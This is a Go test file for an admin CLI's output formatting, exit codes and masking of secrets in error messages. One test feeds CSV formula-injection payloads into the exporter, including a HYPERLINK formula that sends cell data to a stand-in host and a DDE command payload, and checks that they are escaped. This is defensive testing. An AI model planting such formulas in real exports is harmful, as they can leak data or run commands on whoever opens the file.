package admin

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"syscall"
	"testing"

	"lottery/configs"
	"lottery/models"
)

type leaf struct {
	Name string `json:"name"`
	N    *int   `json:"n"`
}

type branch struct {
	leaf
	Words  []string       `json:"words"`
	Counts map[string]int `json:"counts"`
	Leaves []leaf         `json:"leaves"`
	None   *struct{}      `json:"none"`
}

type tree struct { // in lists there are no such
	branch
	Leaf leaf `json:"a_leaf"`
}

func TestResultForms(t *testing.T) {
	t.Parallel()
	b := branch{
		leaf{"a\nb, \"c\" \x1b[2J \u202e<x>", nil},
		[]string{"x", "y"},
		map[string]int{"b": 2, "a": 1},
		[]leaf{{"m", new(1)}, {"", nil}}, nil,
	}
	v := tree{b, leaf{"l", new(1)}}
	for _, c := range []struct {
		form  string
		value any
		want  string
	}{
		{formTable, v, `NAME          a b, "c" \x1b[2J \u202e<x>
N             -
WORDS         x,y
COUNTS        a 1, b 2
LEAVES        2
NONE          -
A LEAF NAME   l
A LEAF N      1

LEAVES
NAME   N
m      1
-      -
`},
		{formTable, []branch{b}, `NAME                         N   WORDS   COUNTS     LEAVES   NONE
a b, "c" \x1b[2J \u202e<x>   -   x,y     a 1, b 2   2        -

LEAVES
NAME                         NAME   N
a b, "c" \x1b[2J \u202e<x>   m      1
a b, "c" \x1b[2J \u202e<x>   -      -
`},
		{formTable, []leaf{}, "NAME   N\n"},
		{formCSV, []leaf{}, "name,n\n"},
		{formTable, struct {
			Errors []string `json:"errors"`
		}{[]string{"one, and", "two"}}, "ERRORS   one, and; two\n"},
		{formCSV, v, "name,n,words,counts,leaves,none,a_leaf\n" +
			"\"a\nb, \"\"c\"\" \x1b[2J \u202e<x>\",,\"x,y\",\"{\"\"a\"\":1,\"\"b\"\":2}\"," +
			"\"[{\"\"name\"\":\"\"m\"\",\"\"n\"\":1},{\"\"name\"\":\"\"\"\",\"\"n\"\":null}]\",,\"{\"\"name\"\":\"\"l\"\",\"\"n\"\":1}\"\n"},
		{formJSON, []leaf{}, "[]\n"},
		{formJSON, leaf{"<x>", nil}, "{\n  \"name\": \"<x>\",\n  \"n\": null\n}\n"},
	} {
		var out strings.Builder
		tool := newTool(context.Background(), Env{Stdout: &out})
		tool.form = c.form
		if err := tool.result(c.value); err != nil {
			t.Fatal(err)
		}
		if got := out.String(); got != c.want {
			t.Errorf("%s:\n%s\nwant\n%s", c.form, got, c.want)
		}
	}
}

// Text written by a stranger is never a formula in a spreadsheet, and removing one leading ' restores it.
func TestCSVHoldsNoFormulas(t *testing.T) {
	t.Parallel()
	type row struct {
		Name  string   `json:"name"`
		Email *string  `json:"email"`
		Words []string `json:"words"`
		N     int      `json:"n"`
		Share *float64 `json:"share"`
	}
	below := -0.5
	for text, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"open")`: `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
		`=cmd|'/C+calc'!A0@evil.example`:                `'=cmd|'/C+calc'!A0@evil.example`,
		"+1":                                            "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx", "＝x": "'＝x", "＋x": "'＋x", "－x": "'－x", "＠x": "'＠x",
		"'=x": "''=x", "'": "''", "": "", "a=b": "a=b", "ada+x@example.com": "ada+x@example.com", "2026-11-22": "2026-11-22", "12": "12",
	} {
		var b strings.Builder
		tool := newTool(t.Context(), Env{Stdout: &b})
		tool.form = formCSV
		if err := tool.result([]row{{text, &text, []string{text}, -5, &below}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got, want := rows[1], []string{want, want, want, "-5", "-0.5"}; !slices.Equal(got, want) {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, syscall.ENOSPC }

func TestResultThatCannotBeWritten(t *testing.T) {
	t.Parallel()
	for _, form := range []string{formTable, formJSON, formCSV} {
		tool := newTool(context.Background(), Env{Stdout: fullDisk{}})
		tool.form = form
		if err := tool.result([]leaf{{"x", nil}}); exitCode(err) != exitFailed {
			t.Errorf("%s: %v", form, err)
		}
	}
}

func TestExitCodes(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		err  error
		want int
	}{
		{nil, 0},
		{errors.New("x"), 1},
		{models.Errorf(models.CodeUnavailable, "x"), 1},
		{models.Errorf(models.CodeInvalid, "x"), 2},
		{fmt.Errorf("y: %w", rejectedError{"x"}), 3},
		{fmt.Errorf("y: %w", models.Errorf(models.CodeNotFound, "x")), 4},
		{models.Errorf(models.CodeConflict, "x"), 5},
		{errUnchanged, 1},
		{errHelpShown, 2},
	} {
		if got := exitCode(c.err); got != c.want {
			t.Errorf("%v: %d, want %d", c.err, got, c.want)
		}
	}
}

func TestExplainHidesSecrets(t *testing.T) {
	t.Parallel()
	const key = "ldk_0123456789ABCDEFGHIJKLMNOPQRSTUV0OueG9"
	err := fmt.Errorf("key %q at postgres://lottery:hun/ter@2@db/x?password=hunter3&sslmode=require&sslpassword=hunter4 \x1b[2J", key)
	got := explain(context.Background(), err)
	if strings.Contains(got, key) || strings.Contains(got, "89ABC") || strings.Contains(got, "ter@2") || strings.Contains(got, "\x1b") {
		t.Fatal(got)
	}
	if want := `key "ldk_01234567…" at postgres://lottery:xxxxx@db/x?password=xxxxx&sslmode=require&sslpassword=xxxxx \x1b[2J`; got != want {
		t.Fatalf("%s\nwant %s", got, want)
	}
}

// The URL forms in error messages are shown unmasked, for every option that has one.
func TestExplainShowsForms(t *testing.T) {
	t.Parallel()
	wrong := map[string]string{"LOTTERY_DATABASE_URL": "x", "LOTTERY_REDIS_URL": "x", "LOTTERY_SMTP_URL": "x"}
	_, err := configs.Load(configs.Source{Getenv: func(name string) string { return wrong[name] }})
	if err == nil {
		t.Fatal("no error")
	}
	got := explain(context.Background(), err)
	if got != err.Error() || strings.Count(got, "PASSWORD@") != len(wrong) {
		t.Errorf("%s\nwant %s", got, err)
	}
}

func TestWhatIsAbsentIsNullInAnExport(t *testing.T) {
	t.Parallel()
	for _, v := range []any{changeRecord(&models.AuditEntry{Action: "accounts suspend", Actor: "operator"}), mailRecord(&models.Mail{Kind: "welcome"})} {
		text, err := json.Marshal(v)
		if err != nil || strings.Contains(string(text), `""`) {
			t.Errorf("%s %v", text, err)
		}
	}
}

// gone is a stdout whose reader has left.
type gone struct{}

func (gone) Write([]byte) (int, error) {
	return 0, &fs.PathError{Op: "write", Path: "/dev/stdout", Err: syscall.EPIPE}
}

// If the reader of stdout has left, any other error is still reported; without one, nothing is.
func TestResultThatNobodyReads(t *testing.T) {
	t.Parallel()
	tool := newTool(t.Context(), Env{Stdout: gone{}})
	if err := tool.finish([]leaf{{"x", nil}}, rejectedError{"1 of 2 draws rejected"}); exitCode(err) != exitRejected {
		t.Errorf("%v", err)
	}
	err := tool.finish([]leaf{{"x", nil}}, nil)
	if exitCode(err) != exitFailed || !readerGone(err) || !readerGone(errors.Join(err, nil)) {
		t.Errorf("%v", err)
	}
	for _, err := range []error{nil, errors.New("x"), errors.Join(err, errors.New("x")), fmt.Errorf("y: %v", err)} {
		if readerGone(err) {
			t.Errorf("%v", err)
		}
	}
}
